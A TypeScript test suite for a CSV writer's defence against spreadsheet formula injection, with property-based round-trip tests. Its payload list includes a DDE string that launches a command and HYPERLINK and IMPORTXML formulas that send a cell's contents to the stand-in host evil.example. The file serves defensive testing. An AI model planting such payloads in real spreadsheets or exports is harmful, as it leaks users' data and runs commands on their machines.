import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { guardFormula, unguardFormula } from './formula.ts';
import { readCsv } from './read-csv.ts';
import { writeCsv } from './write-csv.ts';

const SIGNS = ['=', '+', '-', '@', '|', ';', '＝', '＋', '－', '＠', '｜', '；', '−'];
const BEFORE = ['', ' ', '   ', '\u00a0', '\u200b', '\ufeff', '\n', ' \t', "'", "''"];
const PAYLOADS = [
  ...BEFORE.flatMap((before) => SIGNS.map((sign) => `${before}${sign}1+1`)),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
  '@SUM(1+1)*cmd|dde',
  '+49 30 1234',
  '-5 Main St',
  '\tplain',
  '\rplain',
  '\nplain',
  '"=1+1"',
  '",=1+1',
  ';=1+1',
];

/** Everything that a spreadsheet ignoring quotes could take for the start of a cell. */
const DANGEROUS = /^[\s\p{Cc}\p{Cf}\p{Z}]*[=+\-@|;＝＋－＠｜；−]/u;

function cellsOf(text: string): readonly (readonly string[])[] {
  const table = readCsv(text);
  if (table.kind !== 'table') throw new Error(table.kind);
  return table.records.map(({ cells }) => cells);
}

/** The cells as a spreadsheet sees them: unquoted, still guarded. */
function seenCells(text: string): string[] {
  return [...text.slice(1).matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

describe('the guard against formulas', () => {
  test('is tested with at least 60 payloads', () =>
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60));

  test.each(PAYLOADS)('leaves no cell that starts a formula: %j', (payload) => {
    const [seen = '', other] = seenCells(writeCsv([[payload, 'x']]));
    expect(seen).not.toMatch(DANGEROUS);
    expect(seen).not.toMatch(/^[\t\r\n]/);
    expect(other).toBe('x');
    expect(cellsOf(writeCsv([[payload, 'x']]))).toEqual([[payload, 'x']]);
  });

  test.each(['', 'Ana', "O'Brien", "'t Hooft", "'quoted'", '3-5', '1=1', '"'])(
    'leaves %j unchanged in both directions',
    (cell) => {
      expect(guardFormula(cell)).toBe(cell);
      expect(unguardFormula(cell)).toBe(cell);
    },
  );
});

describe('written CSV', () => {
  test('reads back unchanged, for 100 random tables', () => {
    const character = fc.constantFrom(
      ...('ab 1,;|\t\r\n"\'=+-@＝−é漢👩\u200b\ufeff'.match(/./gsu) ?? []),
      '\ud800',
      '""',
      '\r\n',
      "'=",
    );
    const cell = fc.oneof(fc.string(), fc.string({ unit: character, maxLength: 40 }));
    const table = fc
      .integer({ min: 1, max: 8 })
      .chain((width) =>
        fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1 }),
      );
    fc.assert(
      fc.property(table, (rows) => {
        expect(cellsOf(writeCsv(rows))).toEqual(rows);
      }),
      { numRuns: 100 },
    );
  });

  test('reads back at the limits: 500 guarded characters, 40 columns', () => {
    const rows = [Array.from({ length: 40 }, () => `=${'"'.repeat(499)}`)];
    expect(cellsOf(writeCsv(rows))).toEqual(rows);
  });

  test('starts with a byte order mark and ends lines with CRLF', () => {
    expect(writeCsv([['é', 'a,b'], ['']])).toBe('\uFEFFé,"a,b"\r\n""\r\n');
  });

  test('quotes blanks at the ends of a cell, not within', () => {
    expect(writeCsv([['Ana Example', ' a', 'b ']])).toBe('\uFEFFAna Example," a","b "\r\n');
  });
});
